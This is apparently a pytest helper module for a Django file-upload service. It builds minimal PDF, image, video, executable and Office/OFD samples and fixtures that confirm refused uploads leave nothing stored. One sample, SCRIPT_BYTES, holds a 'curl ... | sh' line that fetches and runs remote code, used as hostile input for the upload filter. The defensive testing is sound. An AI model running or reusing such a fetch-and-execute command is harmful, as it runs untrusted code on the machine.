import io
import os
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from shuzheng.foundation.files.models import StoredFile

# Minimal files whose first bytes are what the sniffer reads.
PDF_BYTES = b"%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\ntrailer <<>>\n%%EOF\n"
PNG_BYTES = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
    b"\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00"
    b"\x00\x00\x00IEND\xaeB`\x82"
)
JPEG_BYTES = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 64
MP4_BYTES = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00\x00\x00\x08free" * 4
ELF_BYTES = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
PE_BYTES = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48
SCRIPT_BYTES = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def zip_bytes(members: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_bytes(extra: dict[str, bytes] | None = None) -> bytes:
    return zip_bytes(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
            "_rels/.rels": b'<?xml version="1.0"?><Relationships/>',
            "word/document.xml": b'<?xml version="1.0"?><w:document>\xe7\x94\xb3\xe8\xaf\xb7</w:document>',
            **(extra or {}),
        }
    )


def xlsx_bytes() -> bytes:
    return zip_bytes(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
            "xl/workbook.xml": b'<?xml version="1.0"?><workbook/>',
        }
    )


def ofd_bytes() -> bytes:
    return zip_bytes(
        {
            "OFD.xml": b'<?xml version="1.0"?><ofd:OFD/>',
            "Doc_0/Document.xml": b'<?xml version="1.0"?><ofd:Document/>',
        }
    )


def upload(data: bytes, name: str = "材料.pdf", content_type: str = "application/pdf"):
    return SimpleUploadedFile(name, data, content_type=content_type)


def blobs(root) -> list[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


@pytest.fixture
def nothing_stored(files_storage, settings):
    """Call after a refusal: no row, no blob, no temporary copy left."""

    def check():
        assert StoredFile.objects.count() == 0
        assert blobs(files_storage) == []
        assert os.listdir(settings.FILES_TEMP_DIR) == []

    return check


@pytest.fixture
def citizen(django_user_model):
    return django_user_model.objects.create_user("citizen-wang", password="Zhuhai@2026x")


@pytest.fixture
def stranger(django_user_model):
    return django_user_model.objects.create_user("citizen-li", password="Zhuhai@2026x")
